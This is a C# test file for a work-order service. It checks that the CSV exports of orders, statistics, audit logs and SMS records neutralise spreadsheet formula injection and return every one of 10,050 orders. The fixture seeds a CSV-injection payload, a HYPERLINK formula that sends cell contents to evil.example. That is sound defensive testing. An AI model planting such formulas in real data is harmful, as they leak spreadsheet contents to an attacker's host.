using System.Text;
using HomeService.Tests.Infrastructure;

namespace HomeService.Tests.WorkOrders;

public sealed class CsvExportDeployment : IAsyncLifetime
{
    public const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
    public const int Orders = 10_050;

    public TestDeployment Deployment { get; private set; } = null!;

    /// <summary>
    /// 10,050 orders of their own channel, one of them with a formula for a district, an audit line and an SMS kind with
    /// one too. They are written straight into the read tables with one INSERT each: through the grains, ten thousand
    /// orders would take minutes on this machine, and the export reads only these tables.
    /// </summary>
    public async Task InitializeAsync()
    {
        Deployment = await TestDeployment.Start(silos: 1, webHosts: 1);
        var formula = Hyperlink.Replace("'", "''");
        const string Empty = "{}";
        await Deployment.Sql($"""
            INSERT INTO work_order (order_no, kind, status, open, contact_phone, channel, district, created_at, updated_at)
            SELECT 'WX' || lpad(g::text, 8, '0'), 'service', 'Cancelled', false, '13800000000', 'csv-test',
                   CASE WHEN g = 1 THEN '{formula}' ELSE '金水区' END, now() - make_interval(secs => g), now()
            FROM generate_series(1, {Orders}) g;
            INSERT INTO audit_log (at, actor, action, target_kind, target_id) VALUES (now(), '{formula}', 'csv.test', 'account', '-1');
            INSERT INTO notification_outbox (id, channel, recipient_kind, recipient_id, template, params, dedup_key, sent_at)
            VALUES ('00000000-0000-0000-0000-0000000c5f01', 'sms', 'phone', '13800000000', 'order.created', '{Empty}', 'csv-test-1', now());
            INSERT INTO sms_message (outbox_id, phone, template, provider, text, segments, state, attempted_at, final_at)
            VALUES ('00000000-0000-0000-0000-0000000c5f01', '13800000000', '{formula}', 'development', 'x', 1, 'delivered', now(), now());
            """);
    }

    public async Task DisposeAsync() => await Deployment.DisposeAsync();
}

/// <summary>
/// Every CSV export over HTTP: a cell that a spreadsheet would run as a formula comes out as text ('=HYPERLINK…), and
/// the order export gives every matching order, not the first 10,000.
/// </summary>
public sealed class CsvExportHttpTests(CsvExportDeployment fixture) : IClassFixture<CsvExportDeployment>
{
    private RunningWeb Web => fixture.Deployment.WebHosts[0];
    private static readonly string Defused = $"\"'{CsvExportDeployment.Hyperlink.Replace("\"", "\"\"")}\"";

    [Fact]
    public async Task The_order_export_has_every_one_of_more_than_ten_thousand_orders_with_the_formula_defused()
    {
        using var agent = await WebSession.SignIn(Web, "agent1");
        var lines = Lines(await Csv(agent, "/api/orders/export.csv?channel=csv-test"));
        Assert.StartsWith("order_no,kind,category,status,channel,district", lines[0]);
        Assert.Equal(CsvExportDeployment.Orders, lines.Length - 1);
        Assert.Equal(CsvExportDeployment.Orders, lines.Skip(1).Select(l => l.Split(',')[0]).Distinct().Count());
        Assert.Contains(lines, l => l.StartsWith("WX00000001,") && l.Contains($",csv-test,{Defused},"));
        AssertNoFormulaCell(lines);
    }

    [Fact]
    public async Task The_statistics_audit_and_sms_exports_defuse_the_formula()
    {
        using (var supervisor = await WebSession.SignIn(Web, "supervisor"))
        {
            var stats = Lines(await Csv(supervisor, "/api/stats/orders.csv?channel=csv-test"));
            Assert.Contains($"district,{Defused},1", stats);
            Assert.Contains($"district,金水区,{CsvExportDeployment.Orders - 1}", stats);
            AssertNoFormulaCell(stats);
        }
        using var admin = await WebSession.SignIn(Web, "admin");
        var audit = Lines(await Csv(admin, "/api/admin/audit/export?action=csv.test"));
        Assert.Contains(audit, l => l.Contains($",{Defused},") && l.Contains("csv.test"));
        AssertNoFormulaCell(audit);
        var sms = Lines(await Csv(admin, "/api/admin/sms/daily/export"));
        Assert.Contains(sms, l => l.Contains($",{Defused},development,1,1,1,"));
        AssertNoFormulaCell(sms);
    }

    private static async Task<string> Csv(WebSession session, string path)
    {
        var response = await session.Http.GetAsync(path);
        Assert.True(response.IsSuccessStatusCode, $"{path}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]); // Excel reads the Chinese as UTF-8
        return Encoding.UTF8.GetString(bytes[3..]);
    }

    private static string[] Lines(string csv) => csv.TrimEnd('\n').Split('\n');

    /// <summary>No cell, quoted or not, starts with a formula character (the exports have no multi-line cells here).</summary>
    private static void AssertNoFormulaCell(IEnumerable<string> lines) =>
        Assert.All(lines, l => Assert.DoesNotMatch(@"(^|,)""?[=+\-@\t]", l));
}
